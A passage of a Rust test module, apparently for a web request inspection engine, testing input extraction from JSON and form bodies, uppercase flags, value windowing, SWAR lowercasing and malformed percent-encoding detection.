            ("application/json", "{\"A\":\"\u{e9}T\u{c9}\",\"B\":\"\u{c9}t\u{e9}\"}".as_bytes()),
            ("application/json", br#"{"Broken": "VALUE""#),
            ("application/x-www-form-urlencoded", b"User=Bob&q=Blue+Shoes&X=%41b&Y=caf\xc3\xa9&Z=Caf\xc3\x89"),
            ("application/x-www-form-urlencoded", b"a=b&c=d"),
            ("application/x-www-form-urlencoded", b"A=\xff\xfe&B=Plain"),
            ("text/plain", b"Some TEXT body"),
            ("application/xml", b"<A>Text</A>"),
        ];
        let cfg = Config::default();
        let table = HeaderTable::new(&cfg.headers);
        for (ct, body) in bodies {
            let h = hdrs(&[("content-type", ct), ("user-agent", "Mozilla/5.0 (X11)")]);
            let req = Request::new("POST", "/P?Q=V&r=s")
                .with_headers(&h)
                .with_body(body);
            let own = prepare_with(req, &cfg, &table, &NoExcl, CategorySet::EMPTY, None);
            let cell = OnceCell::new();
            let shared = prepare_with(req, &cfg, &table, &NoExcl, CategorySet::EMPTY, Some(&cell));
            assert_eq!(
                own.inputs,
                shared.inputs,
                "{ct} {:?}",
                String::from_utf8_lossy(body)
            );
            assert_eq!(own.flags, shared.flags);
            // The capital flag the gates read says what the value holds.
            for s in &shared.inputs {
                assert_eq!(
                    s.has_upper,
                    s.value.bytes().any(|b| b.is_ascii_uppercase()),
                    "{:?}",
                    s.value
                );
            }
        }
    }

    /// Inputs reused for repeated JSON member names (and lowercase forms shared with the
    /// body) are what `Input::new` computes from their texts, and a repeated name is its own
    /// input each time, in document order: keys with escapes, with capitals, percent signs,
    /// look-alikes that differ by one byte, and names that repeat past the cache.
    #[test]
    fn repeated_json_names_are_their_own_inputs() {
        let body = br#"{"a":[{"sku":"X","Name":"Y","p%41":"1","kA":2,"sku2":3},
            {"sku":"x2","Name":"y2","p%41":"2","kA":3,"sku2":4,"sk":5,"n1":1,"n2":2,"n3":3},
            {"sku":"x3","Name":"y3","p%41":"3","kA":4,"sku2":5}]}"#;
        let h = hdrs(&[("content-type", "application/json")]);
        let req = Request::new("POST", "/").with_headers(&h).with_body(body);
        let cfg = every_value();
        let table = HeaderTable::new(&cfg.headers);
        let cell = OnceCell::new();
        let p = prepare_with(req, &cfg, &table, &NoExcl, CategorySet::EMPTY, Some(&cell));
        let names: Vec<&str> = p
            .inputs
            .iter()
            .filter(|i| i.location.source == Source::ArgName)
            .map(|i| i.raw.as_str())
            .collect();
        assert_eq!(
            names,
            [
                "a", "sku", "Name", "p%41", "kA", "sku2", "sku", "Name", "p%41", "kA", "sku2",
                "sk", "n1", "n2", "n3", "sku", "Name", "p%41", "kA", "sku2"
            ]
        );
        for i in &p.inputs {
            let mut fresh = Input::new(
                i.location.clone(),
                i.raw.clone(),
                i.value.clone(),
                i.excluded,
            );
            // A plain path's shape is set by the extractor (`plain_path`, at paranoia 1), not
            // by its bytes.
            if i.location.source == Source::Path && cfg.paranoia_level == 1 && plain_path(&i.raw) {
                fresh.shape = crate::detect::gate::Shape::PlainPath;
            }
            assert_eq!(*i, fresh, "{:?}", i.raw);
        }
    }

    /// The capital flag is exact for every value and every window of a long one: a window
    /// without a capital says so even when its value has one elsewhere.
    #[test]
    fn capital_flag_is_exact_per_value_and_window() {
        let body = "a".repeat(2 * WINDOW) + "Invoke-Expression";
        let h = hdrs(&[("content-type", "text/plain")]);
        let req = Request::new("POST", "/x?q=lower&r=Upper")
            .with_headers(&h)
            .with_body(body.as_bytes());
        let cfg = Config::default();
        let table = HeaderTable::new(&cfg.headers);
        let p = prepare_with(req, &cfg, &table, &NoExcl, CategorySet::EMPTY, None);
        let windowed = p.windowed().expect("a value longer than a window");
        let (mut with, mut without) = (0, 0);
        for i in p.inputs.iter().chain(&windowed.inputs) {
            let capital = i.value.bytes().any(|b| b.is_ascii_uppercase());
            assert_eq!(i.has_upper, capital, "{:?}", i.value.get(..40));
            if capital {
                with += 1;
            } else {
                without += 1;
            }
        }
        // `Upper`, the body, its last window; `lower`, `q`, the body's first windows...
        assert!(with >= 3 && without >= 3, "{with} {without}");
    }

    /// `trim_unicode` is `str::trim` (ASCII and Unicode whitespace at either end).
    #[test]
    fn trim_unicode_is_trim() {
        let pieces = [
            " ", "\t", "\u{b}", "\u{c}", "\r", "\n", "\u{1c}", "\u{85}", "\u{a0}", "\u{3000}", "a",
            "=", "\u{e9}", "",
        ];
        for a in pieces {
            for b in pieces {
                for c in pieces {
                    let s = format!("{a}{b}{c}");
                    assert_eq!(trim_unicode(&s), s.trim(), "{s:?}");
                }
            }
        }
    }

    #[test]
    fn windows_cover_everything_and_overlap() {
        let s = "é".repeat(5000) + &"a".repeat(3001);
        let w = windows(&s, 4096, 512);
        assert_eq!(w.first().map(|x| x.0), Some(0));
        assert_eq!(w.last().map(|x| x.1), Some(s.len()));
        for pair in w.windows(2) {
            let ((a0, a1), (b0, b1)) = (pair[0], pair[1]);
            assert!(a1 - a0 <= 4096 && b1 - b0 <= 4096);
            assert!(b0 > a0 && b0 < a1 && a1 - b0 >= 511, "{pair:?}");
            assert!(s.is_char_boundary(b0) && s.is_char_boundary(a1));
        }
        assert_eq!(windows("short", 4096, 512), vec![(0, 5)]);
    }

    /// The SWAR lowercasing is `to_ascii_lowercase`, for every byte value at every offset.
    #[test]
    fn ascii_lowercase_matches_std() {
        let all: Vec<u8> = (0..=255u8).collect();
        for start in 0..9 {
            for len in [0, 1, 7, 8, 9, 16, 100, 247] {
                let b = all
                    .get(start..(start + len).min(all.len()))
                    .unwrap_or_default();
                assert_eq!(ascii_lowercase(b), b.to_ascii_lowercase(), "{start} {len}");
            }
        }
        let text = "Item Number 3 FOR Order \u{c9}t\u{e9} @[`{ AZaz".as_bytes();
        assert_eq!(ascii_lowercase(text), text.to_ascii_lowercase());
    }

    /// The SWAR splitter, counter and `%` search against the byte loops they replaced, on
    /// generated strings over the bytes that matter (every alignment of every separator).
    #[test]
    fn form_pieces_match_the_byte_loops() {
        let reference_pairs = |data: &[u8]| -> Vec<(Vec<u8>, Vec<u8>)> {
            data.split(|&b| b == b'&')
                .filter(|p| !p.is_empty())
                .map(|pair| match pair.iter().position(|&b| b == b'=') {
                    Some(eq) => (pair[..eq].to_vec(), pair[eq + 1..].to_vec()),
                    None => (pair.to_vec(), Vec::new()),
                })
                .collect()
        };
        let reference_bad = |b: &[u8]| {
            let mut i = 0;
            while let Some(pos) = b.get(i..).and_then(|s| s.iter().position(|&c| c == b'%')) {
                let at = i + pos;
                let h = |k: usize| b.get(at + k).is_some_and(u8::is_ascii_hexdigit);
                let ok = (h(1) && h(2))
                    || (matches!(b.get(at + 1), Some(b'u' | b'U')) && h(2) && h(3) && h(4) && h(5));
                if !ok {
                    return true;
                }
                i = at + 1;
            }
            false
        };
        let alphabet = b"&=%a0uF+\x80&&==";
        let mut seed = 0x2545_f491_4f6c_dd1du64;
        for n in 0..60_000usize {
            let len = n % 41;
            let data: Vec<u8> = (0..len)
                .map(|_| {
                    seed = crate::detect::xorshift(seed);
                    alphabet[(seed >> 11) as usize % alphabet.len()]
                })
                .collect();
            let ours: Vec<(Vec<u8>, Vec<u8>)> = pairs_of(&data)
                .map(|((a, e), (c, d))| (data[a..e].to_vec(), data[c..d].to_vec()))
                .collect();
            assert_eq!(ours, reference_pairs(&data), "{data:?}");
            let scan = FormScan::of(&data);
            assert_eq!(
                scan.amps,
                data.iter().filter(|&&c| c == b'&').count(),
                "{data:?}"
            );
            assert_eq!(scan.percent, data.contains(&b'%'), "{data:?}");
            assert_eq!(has_bad_percent(&data), reference_bad(&data), "{data:?}");
        }
    }

    #[test]
    fn bad_percent_detection() {
        assert!(has_bad_percent(b"100%"));
        assert!(has_bad_percent(b"%zz"));
        assert!(!has_bad_percent(b"%41%u0041"));
    }
}
